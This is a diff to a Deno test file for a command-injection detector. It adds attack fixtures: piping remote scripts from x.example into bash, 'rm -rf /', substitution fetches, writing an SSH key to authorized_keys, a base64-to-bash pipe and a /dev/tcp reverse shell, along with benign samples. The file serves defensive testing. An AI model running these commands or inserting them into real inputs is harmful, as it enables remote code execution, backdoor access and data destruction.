@@ -48,6 +48,17 @@ const ATTACKS: ReadonlyArray<[key: string, value: string, kind: string]> = [
   ["filename", "cat /etc/passwd", "command_as_value"],
   ["package", "lodash; curl x.example | sh", "chained_command"],
   ["host", "example.com'; ping -n 3 127.0.0.1 '", "chained_command"],
+  ["command", "cd /tmp && curl -s https://x.example/i.sh | bash", "chained_command"],
+  ["command", "curl -fsSL https://x.example/i.sh | sudo sh", "dangerous_command"],
+  ["cmd", "make clean; rm -rf / --no-preserve-root", "chained_command"],
+  ["command", "echo $(curl -s https://x.example/payload)", "substitution"],
+  ["command", "echo `wget -qO- https://x.example/p`", "substitution"],
+  ["command", "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "sensitive_write"],
+  ["command", "echo Y3VybCB4fHNo | base64 -d | bash", "chained_command"],
+  ["command", "| echo 'hacked' > hacked", "chained_command"],
+  ["command", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell"],
+  ["version", "^1.2.3; curl x.example | sh", "chained_command"],
+  ["address", "example.com; id", "chained_command"],
 ];
 
 const BENIGN: ReadonlyArray<[key: string, value: string]> = [
@@ -81,6 +92,19 @@ const BENIGN: ReadonlyArray<[key: string, value: string]> = [
   ["command", "ls -la"],
   ["cmd", "npm run build"],
   ["args", "--verbose --depth=1"],
+  ["address", "221B Baker St, London"],
+  ["address", "1600 Amphitheatre Pkwy, Mountain View, CA 94043"],
+  ["host", "Main Street 5, Springfield"],
+  ["version", "^20.11.0"],
+  ["version", "~1.2"],
+  ["version", ">=3.0 <4"],
+  ["version", "1.x || >=2.5.0"],
+  ["python_version", ">=3.9,<4"],
+  ["command", "npm test -- --coverage && npm run lint | tee lint.log"],
+  ["cmd", "git pull && make 2>&1 | grep -F error"],
+  ["command", "cat package.json | jq .version; echo done"],
+  ["command", "find . -name '*.ts' -exec wc -l {} +"],
+  ["text", "Expect: 100-continue"],
 ];
 
 Deno.test("commandInjectionDetector.scan() flags shell chaining, substitution and argument injection", () => {
